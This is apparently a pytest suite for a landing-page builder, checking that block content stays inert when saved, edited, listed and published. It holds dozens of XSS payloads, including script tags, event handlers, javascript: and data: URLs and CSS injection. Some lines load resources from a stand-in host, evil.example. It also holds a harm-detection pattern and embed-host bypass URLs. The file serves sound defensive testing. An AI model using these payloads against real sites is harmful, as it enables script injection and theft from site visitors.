"""What `landing.block.updatenodes` stores is inert, for editors and for visitors (H1, H3)."""

from collections.abc import Iterator
from typing import Any

import pytest
from conftest import MakeService
from contract.worlds import DRAFT, PAGE, attributes, draft_html, everything, find, one_page
from turbohtml import Element

from landyard.testing import Service
from landyard_landing.publication import publish

METHOD = "landing.block.updatenodes"

# Neither the database nor the order of calls has a say in what is inert.
pytestmark = pytest.mark.parametrize("database", ["sqlite"], indirect=True)

TEXTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext></table><img src onerror=alert(1)></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(//evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>',
    "<form action=//evil.example><input name=x><button formaction=javascript:x>y</button></form>",
    "</div></section><script>alert(1)</script><section><div>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    '<a href="x" target="javascript:x" ping="//evil.example">x</a>',
]

VALUES: list[dict[str, Any]] = [
    *({".text": text} for text in TEXTS),
    *({".go": {"text": text, "href": "/x"}} for text in TEXTS[:6]),
    {".go": {"href": "javascript:alert(1)"}},
    {".go": {"href": "\x01java\nscript:alert(1)"}},
    {".go": {"href": "/x", "target": '"><script>alert(1)</script>'}},
    {".go": {"href": "", "query": 'javascript:alert(1)//"><script>'}},
    {".pic": {"src": "javascript:alert(1)", "src2x": "vbscript:x"}},
    {".pic": {"src": 'x" onerror="alert(1)', "alt": '"><script>alert(1)</script>'}},
    {".pic": {"src": "data:image/svg+xml,<svg onload=alert(1)>"}},
    {".pic": {"src": "/a.png", "src2x": "/a.png 1x, javascript:alert(1)"}},
    {".bg": {"src": "x'); background: url(javascript:alert(1)"}},
    {".bg": {"src": 'x"); } body { color: red'}},
    {".film": {"src": "https://film.example/x", "source": "javascript:alert(1)"}},
    {".film": {"src": 'https://film.example/"onload="alert(1)'}},
    {".lazy": {"src": "https://film.example/x", "source": 'x"><script>alert(1)</script>'}},
    {".menu-list": [{"text": "<script>alert(1)</script>", "href": "javascript:alert(1)"}]},
    {
        ".menu-list": [
            {"text": "x", "href": '"><script>alert(1)</script>', "target": '" onclick="x'}
        ]
    },
    {".text": {"attrs": {"title": '"><script>alert(1)</script>', "data-mood": "javascript:x"}}},
    {".go": {"attrs": {"onclick": "alert(1)", "href": "javascript:x", "style": "x", "id": "x"}}},
    {".film": {"attrs": {"srcdoc": "<script>alert(1)</script>", "sandbox": "", "onload": "x"}}},
    {".pic": {"attrs": {"src": "javascript:x", "srcset": "javascript:x", "onerror": "x"}}},
]

FORBIDDEN = {"script", "object", "embed", "base", "meta", "link", "style", "form", "svg", "math"}
ADDRESSES = {"href", "src", "srcset", "data-src", "data-source", "poster", "action", "formaction"}


def _harm(html: str) -> Iterator[str]:
    """What in this HTML could run, load or lead astray."""
    for element in find(html, "*"):
        if element.tag in FORBIDDEN:
            yield f"<{element.tag}>"
        if element.tag == "iframe":
            yield from _frame_harm(element)
        for name, value in attributes(element).items():
            plain = "".join(each for each in (value or "").lower() if each > " ")
            if name.startswith("on") or name in {"srcdoc", "ping", "formaction", "action"}:
                yield name
            if name in ADDRESSES and plain.startswith(("javascript:", "vbscript:", "data:")):
                yield f"{name}={plain}"
            if name == "style" and any(
                word in plain for word in ("script:", "expression", "behavior", "@import", "evil")
            ):
                yield plain


def _frame_harm(frame: Element) -> Iterator[str]:
    sandbox = (frame.attr("sandbox") or "allow-top-navigation").split()
    if "sandbox" not in frame.attrs or any("top-navigation" in word for word in sandbox):
        yield "a frame that can navigate the page"
    if not (frame.attr("src") or "https://").startswith("https://"):
        yield f"a frame of {frame.attr('src')}"


def _public(service: Service) -> str:
    with service.kernel.store.session(writes=True) as session:
        publish(session, PAGE, service.kernel.now())
    page = service.get("/site-7/page-10/").text
    return page[page.index("<main") : page.index("</main>")]


def _listed(service: Service, mode: dict[str, Any]) -> str:
    params = {"lid": PAGE, "params": {"get_content": True, **mode}}
    (item,) = service.result("landing.block.getlist", params)
    return str(item["content"])


@pytest.mark.usefixtures("database")
def test_H1_the_detector_sees_harm() -> None:
    # Whatever the policy lets through must not slip past these tests as well.
    seen = [list(_harm(text)) for text in TEXTS[:6]]

    assert [bool(harm) for harm in seen] == [True] * 6


@pytest.mark.rule("H1")
def test_H1_hostile_values_are_inert_wherever_they_come_out(make_service: MakeService) -> None:
    service = make_service(world=one_page())

    harm: dict[str, list[str]] = {}
    for data in VALUES:
        service.call(METHOD, {"lid": PAGE, "block": DRAFT, "data": data})
        places = [draft_html(service), _listed(service, {"edit_mode": True})]
        places += [_public(service), _listed(service, {})]
        found = [each for html in places for each in _harm(html)]
        if found:
            harm[str(data)] = found
        # Whatever was stored, the block is still one element with its nodes in it.
        assert len(find(places[1], ".block-wrapper > .landing-block .menu-list")) == 1, data

    assert harm == {}


RICH = (
    '<h3 class="a">H</h3><p style="color: red; text-align: center">A <b>b</b> <em>e</em>'
    '<br><a href="https://x.example/?a=1&amp;b=2" target="_blank">l</a></p>'
    '<ul><li>1</li></ul><ol start="2"><li>2</li></ol>'
    '<table><tbody><tr><td colspan="2">t</td></tr></tbody></table>'
    '<img src="/x.png" alt="x" width="10">'
)


@pytest.mark.rule("H1")
def test_H1_rich_text_survives(make_service: MakeService) -> None:
    service = make_service(world=one_page())

    service.result(METHOD, {"lid": PAGE, "block": DRAFT, "data": {".text": RICH}})

    assert find(draft_html(service), ".text")[0].inner_html == RICH


OWN = ["own.example", "shop.example", "OWN.example", "own.example:443", "shop.example."]


@pytest.mark.rule("H3")
@pytest.mark.parametrize("host", OWN)
def test_H3_own_hosts_are_refused(make_service: MakeService, host: str) -> None:
    service = make_service(world=one_page(), public_base="https://own.example:8443")
    service.load({"sites": [{"id": 8, "code": "s8", "domain": "shop.example"}]})
    before = everything(service)

    for node in (".film", ".lazy"):
        data = {node: {"src": f"https://{host}/x"}}
        answer = service.call(METHOD, {"lid": PAGE, "block": DRAFT, "data": data})

        assert answer.error == "TYPE_ERROR"
    assert everything(service) == before


@pytest.mark.rule("H3")
@pytest.mark.parametrize(
    ("src", "error"),
    [
        ("https://film.example/x", None),
        ("//film.example/x", None),
        ("https://FILM.example/x", None),
        ("https://second.example/x", None),
        ("https://other.example/x", "TYPE_ERROR"),
        ("https://film.example.evil.example/x", "TYPE_ERROR"),
        ("https://evil.example/film.example", "TYPE_ERROR"),
        ("https://film.example@evil.example/", "TYPE_ERROR"),
        ("https://evilfilm.example/", "TYPE_ERROR"),
        ("https://film.example\\@evil.example/", "TYPE_ERROR"),
    ],
)
def test_H3_embed_hosts_narrow(make_service: MakeService, src: str, error: str | None) -> None:
    hosts = ["film.example", "second.example"]
    service = make_service(world=one_page(), blocks={"embed_hosts": hosts})

    answer = service.call(METHOD, {"lid": PAGE, "block": DRAFT, "data": {".film": {"src": src}}})

    assert answer.error == error


@pytest.mark.rule("H3")
def test_H3_attributes_are_no_way_round(make_service: MakeService) -> None:
    service = make_service(world=one_page(), blocks={"embed_hosts": ["film.example"]})
    data = {".film": {"attrs": {"src": "https://evil.example/"}}}

    answer = service.call(METHOD, {"lid": PAGE, "block": DRAFT, "data": data})

    assert answer.error == "TYPE_ERROR"
